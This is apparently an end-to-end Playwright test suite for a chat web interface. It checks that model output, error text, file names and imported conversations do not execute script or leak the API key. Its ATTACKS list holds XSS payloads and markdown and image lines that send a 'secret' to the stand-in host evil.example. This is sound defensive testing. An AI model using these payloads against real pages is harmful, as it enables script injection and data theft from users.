"""The page in Chromium, in front of a worker that wants a key and whose model writes what the test says."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import Page, Route, expect

from tests.e2e.web.chat import PICTURE, answers, ask, give, new_chat
from tests.e2e.web.conftest import KEY, OpenPage

ATTACKS = (
    "<img src=x onerror=hacked=1>",
    "<script>hacked=1</script>",
    "<svg onload=hacked=1><script>hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "![x](http://evil.example/?q=secret)",
    "<img src=http://evil.example/?q=secret>",
    "[x](javascript:hacked=1)",
    "[x](data:text/html,<script>hacked=1</script>)",
    "<form action=http://evil.example><button>x</button></form>",
    "<div style=position:fixed;inset:0>x</div>",
    "<a id=app name=body>x</a>",
    '```"><img/src/onerror=hacked=1>\nx\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    "[x](//evil.example)",
    "<button formaction=javascript:hacked=1>x</button>",
)
DANGEROUS = (
    "script, iframe, form:not(.composer), style, math, object, embed, [style*=fixed], [srcdoc], [onerror], [onload]"
)


def _nothing_happened(page: Page, asked: list[str]) -> None:
    assert page.evaluate("typeof hacked") == "undefined"
    assert page.locator("main").locator(DANGEROUS).count() == 0
    assert page.locator("main img:not([src^='blob:'])").count() == 0
    for link in page.locator("main a").all():
        assert re.match("https?:|mailto:", link.get_attribute("href") or "")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert not [url for url in asked if "evil.example" in url]


@pytest.fixture
def page(echo_url: str, open_page: OpenPage) -> Page:
    opened = open_page(echo_url, key=KEY)
    expect(opened.get_by_text("Answers come from")).to_be_visible()
    return opened


def test_what_a_model_writes_does_nothing(page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for start in range(0, len(ATTACKS), 3):
        new_chat(page)
        text = "\n\n".join(ATTACKS[start : start + 3])
        ask(page, text)
        expect(answers(page)).to_have_count(1)
        expect(answers(page).locator(".markdown")).not_to_be_empty()
        _nothing_happened(page, asked)
        page.evaluate("document.querySelectorAll('.answer button[formaction], main a').forEach(a => a.title)")


def test_names_of_files_errors_and_imported_chats_do_nothing(page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    worst = "".join(ATTACKS[:3])

    def fail(route: Route) -> None:
        error = {"message": worst, "type": worst, "param": None, "code": worst}
        route.fulfill(status=500, json={"error": error})

    give(page, "paste", **{f"{worst}\u202egnp_png": PICTURE})
    expect(page.locator(".picture")).to_contain_text("‹U+202E›")
    page.route("**/v1/chat/completions", fail)
    ask(page, "x")
    expect(page.locator(".ending.failed")).to_contain_text(worst)
    expect(page.get_by_role("alert")).to_contain_text(worst)
    _nothing_happened(page, asked)
    page.unroute("**/v1/chat/completions")

    message = {"role": "assistant", "text": "\n\n".join(ATTACKS), "pictures": [], "status": "error", "error": worst}
    picture = {"name": worst, "url": "http://evil.example/a.png"}
    question = {"role": "user", "text": worst, "pictures": [picture, {**picture, "url": "javascript:hacked=1"}]}
    imported = {
        "format": "mmserve-conversations",
        "version": 1,
        "conversations": [{"title": f"attack {worst}", "messages": [question, message], "options": {"system": worst}}],
    }
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("File of conversations").set_input_files(
        {"name": "chats.json", "mimeType": "application/json", "buffer": json.dumps(imported).encode()}
    )
    expect(page.get_by_text("1 conversation added.")).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="attack", exact=False).first.click()
    expect(answers(page).locator(".ending.failed")).to_contain_text(worst)
    _nothing_happened(page, asked)


def test_a_stream_is_stopped_and_its_text_stays(page: Page) -> None:
    ask(page, "hold one two three four")
    expect(page.locator(".answer.live .markdown")).to_have_text("hold one two three")
    page.get_by_role("button", name="Stop").click()
    expect(answers(page)).to_contain_text("Stopped.")
    expect(answers(page).locator(".markdown")).to_have_text("hold one two three")
    expect(page.get_by_role("status").first).to_have_text("Stopped.")
    new_chat(page)
    ask(page, "hold five six")
    expect(page.locator(".answer.live .markdown")).to_have_text("hold five")
    page.keyboard.press("Escape")
    expect(answers(page)).to_contain_text("Stopped.")


def test_a_connection_that_ends_early_is_shown_as_cut(page: Page) -> None:
    chunk = {"model": "stub", "choices": [{"index": 0, "delta": {"content": "half an ans"}}]}
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(content_type="text/event-stream", body=f"data: {json.dumps(chunk)}\n\n"),
    )
    ask(page, "x")
    expect(answers(page).locator(".markdown")).to_have_text("half an ans")
    expect(answers(page).locator(".ending.failed")).to_contain_text("before the answer was complete")


def test_a_key_is_asked_for_until_it_is_right_and_is_in_nothing_that_is_copied(
    echo_url: str, open_page: OpenPage
) -> None:
    page = open_page(echo_url)
    dialog = page.get_by_role("dialog", name="API key")
    for key in ("wrong", KEY):
        dialog.get_by_label("Key", exact=True).fill(key)
        page.keyboard.press("Enter")
        if key == "wrong":
            expect(dialog.get_by_role("alert")).to_have_text("missing or wrong API key")
    expect(dialog).to_have_count(0)
    ask(page, "hello")
    expect(answers(page).locator(".markdown")).to_have_text("hello")
    page.get_by_role("button", name="Copy as curl or Python").click()
    for form, credential in (("curl", "$MMSERVE_API_KEY"), ("Python", 'os.environ["MMSERVE_API_KEY"]')):
        page.get_by_role("tab", name=form).click()
        code = page.get_by_role("tabpanel", name=form)
        expect(code).to_contain_text(credential)
        assert KEY not in code.inner_text()
    for key in ("ArrowRight", "ArrowLeft"):
        page.keyboard.press(key)
    expect(page.get_by_role("tab", name="Python")).to_be_focused()
    expect(page.get_by_role("tab", name="Python")).to_have_attribute("aria-selected", "true")
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tabpanel", name="curl")).to_be_visible()
    page.keyboard.press("Escape")
    with page.expect_download() as download:
        page.get_by_role("button", name="Export this conversation").click()
    exported = download.value.path().read_text()
    assert "hello" in exported
    assert KEY not in exported
    page.reload()
    expect(page.get_by_text("Answers come from")).to_be_visible()  # the tab still knows it


def test_a_question_is_edited_and_a_conversation_deleted_by_keyboard(page: Page) -> None:
    ask(page, "first")
    expect(answers(page).locator(".markdown")).to_have_text("first")
    page.keyboard.press("ArrowUp")
    editor = page.get_by_label("Edited message")
    expect(editor).to_be_focused()
    editor.fill("second")
    page.keyboard.press("Enter")
    expect(answers(page).locator(".markdown")).to_have_text("second")
    expect(page.locator(".question")).to_have_count(1)
    expect(page.get_by_label("Message")).to_be_focused()
    new_chat(page)
    ask(page, "other")
    expect(answers(page).locator(".markdown")).to_have_text("other")
    page.get_by_label("Message").fill("a draft")
    conversations = page.get_by_role("navigation").get_by_role("listitem")
    expect(conversations).to_have_count(2)
    page.get_by_role("button", name="Delete other").focus()
    page.keyboard.press("Enter")
    expect(conversations).to_have_count(1)
    expect(page.get_by_role("button", name="second", exact=True)).to_be_focused()
    expect(page.get_by_label("Message")).to_be_empty()
    assert "a draft" not in page.evaluate("JSON.stringify(localStorage)")
